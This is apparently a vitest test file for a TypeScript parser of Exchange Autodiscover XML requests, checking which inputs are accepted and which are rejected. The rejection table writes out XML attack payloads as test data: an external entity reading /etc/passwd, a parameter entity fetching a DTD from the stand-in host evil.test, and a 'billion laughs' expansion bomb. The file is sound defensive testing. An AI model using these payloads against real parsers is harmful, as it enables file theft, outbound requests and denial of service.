import { describe, expect, it } from "vitest";
import { readAutodiscover } from "@/lib/faces/autoconfig/read-autodiscover";

const outlook = "http://schemas.microsoft.com/exchange/autodiscover/outlook";
const answerSchema = `${outlook}/responseschema/2006a`;

const posted = (body: BodyInit) =>
  readAutodiscover(new Request("https://autodiscover.demo.test/", { method: "POST", body }));
const inRequest = (inner: string) =>
  `<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="${outlook}/requestschema/2006"><Request>${inner}</Request></Autodiscover>`;
const asked = (address: string) =>
  inRequest(
    `<EMailAddress>${address}</EMailAddress><AcceptableResponseSchema>${answerSchema}</AcceptableResponseSchema>`,
  );

/** A body that arrives in pieces of so many bytes. */
const inPieces = (text: string, size: number): ReadableStream<Uint8Array> => {
  const bytes = new TextEncoder().encode(text);
  return new ReadableStream({
    start(stream) {
      for (let at = 0; at < bytes.length; at += size) stream.enqueue(bytes.subarray(at, at + size));
      stream.close();
    },
  });
};

describe("a request of Autodiscover", () => {
  it("says who asks, and what schema of answers they understand", async () => {
    expect(await posted(asked(" anna@demo.test\n"))).toEqual({
      address: "anna@demo.test",
      schema: answerSchema,
    });
  });

  it.each([
    ["with a prefix for its namespace", asked("a@demo.test").replaceAll(/<(\/?)(?=[A-Z])/g, "<$1ad:")],
    ["with entities that XML itself has", asked("a&#64;demo.test")],
    ["with comments in between", asked("a@<!-- at -->demo.test")],
  ])("%s is read the same", async (_, xml) => {
    const named = xml.replace("xmlns=", "xmlns:ad=");
    const sent = xml.includes("<ad:") ? named : xml;
    expect(await posted(sent)).toMatchObject({ address: "a@demo.test" });
  });

  it("is read the same in whatever pieces it comes, also within a character", async () => {
    for (const size of [1, 2, 3, 7]) {
      const request = new Request("https://autodiscover.demo.test/", {
        method: "POST",
        body: inPieces(asked("jürgen@bücher.test"), size),
        // Node wants it said that the answer is not waited for while a stream is sent.
        duplex: "half",
      } as RequestInit);
      expect(await readAutodiscover(request)).toMatchObject({ address: "jürgen@bücher.test" });
    }
  });

  const doctype = (declared: string, address: string) =>
    asked(address).replace("<Autodiscover", `<!DOCTYPE Autodiscover [${declared}]><Autodiscover`);
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    "",
  );

  it.each([
    ["reads a file", doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")],
    ["asks another host", doctype('<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;', "a@demo.test")],
    ["expands without end", doctype(`<!ENTITY l0 "lol">${laughs}`, "&l9;")],
    ["only declares a type", doctype("", "a@demo.test")],
    ["uses an entity that nobody has declared", asked("&x;")],
    ["is not closed", asked("a@demo.test").replace("</Autodiscover>", "")],
    ["is closed twice", `${asked("a@demo.test")}</Autodiscover>`],
    [
      "has two roots",
      asked("a@demo.test")
        .replace(/<\?.*?\?>/, "")
        .repeat(2),
    ],
    ["has a control character", asked("a\u0001@demo.test")],
    ["uses a prefix without a namespace", asked("a@demo.test").replaceAll("EMailAddress", "x:EMailAddress")],
    ["goes deeper than any request", inRequest(`${"<a>".repeat(9)}${"</a>".repeat(9)}`)],
    ["is longer than any request", asked(`${" ".repeat(16_384)}a@demo.test`)],
    ["names nobody", asked(" ")],
    ["names no schema", inRequest("<EMailAddress>a@demo.test</EMailAddress>")],
    ["is JSON", JSON.stringify({ EMailAddress: "a@demo.test", AcceptableResponseSchema: answerSchema })],
    ["is empty", ""],
  ])("that %s is none", async (_, xml) => expect(await posted(xml)).toBeNull());

  it("that is not UTF-8 is none, nor one that names itself in attributes", async () => {
    expect(await posted(Buffer.from(asked("jürgen@demo.test"), "latin1"))).toBeNull();
    expect(await posted(Buffer.from(asked("a@demo.test"), "utf16le"))).toBeNull();
    const attributes = `<Q EMailAddress="a@demo.test" AcceptableResponseSchema="${answerSchema}"/>`;
    expect(await posted(inRequest(attributes))).toBeNull();
  });

  it("that names two people is about neither", async () => {
    const two = asked("a@demo.test").replace(
      "<EMailAddress>",
      "<EMailAddress>b@demo.test</EMailAddress><EMailAddress>",
    );
    expect(["a@demo.test", "b@demo.test"]).not.toContain((await posted(two))?.address);
  });
});
